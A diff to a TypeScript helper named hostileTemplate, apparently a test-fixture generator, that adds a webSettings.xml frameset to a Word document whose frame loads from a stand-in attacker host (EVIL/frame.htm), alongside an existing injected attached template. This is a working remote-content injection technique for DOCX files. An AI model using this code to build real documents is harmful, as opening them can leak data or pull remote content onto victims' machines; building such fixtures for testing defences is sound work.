@@ -61,6 +61,15 @@ export function hostileTemplate(base: Uint8Array): Uint8Array {
   const at = withNs.indexOf('>', withNs.indexOf('<w:settings')) + 1;
   put('word/settings.xml', `${withNs.slice(0, at)}<w:attachedTemplate r:id="rIdEvilTpl"/>${withNs.slice(at)}`);
 
+  // A frameset whose frame's source is remote (webSettings.xml, added when the template has none).
+  const webRel = 'word/_rels/webSettings.xml.rels';
+  if (!parts['word/webSettings.xml']) {
+    put(docRels, text(parts[docRels]).replace('</Relationships>', rel('rIdWebSettings', 'webSettings', 'webSettings.xml', false) + '</Relationships>'));
+    put('[Content_Types].xml', text(parts['[Content_Types].xml']).replace('</Types>', '<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/></Types>'));
+  }
+  put('word/webSettings.xml', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:frameset><w:frame><w:name w:val="evil"/><w:sourceFileName r:id="rIdEvilFrame"/></w:frame></w:frameset></w:webSettings>`);
+  put(webRel, addRelationships(parts[webRel] ? text(parts[webRel]) : undefined, rel('rIdEvilFrame', 'frame', `${EVIL}/frame.htm`)));
+
   const styles = text(parts['word/styles.xml']);
   put(
     'word/styles.xml',
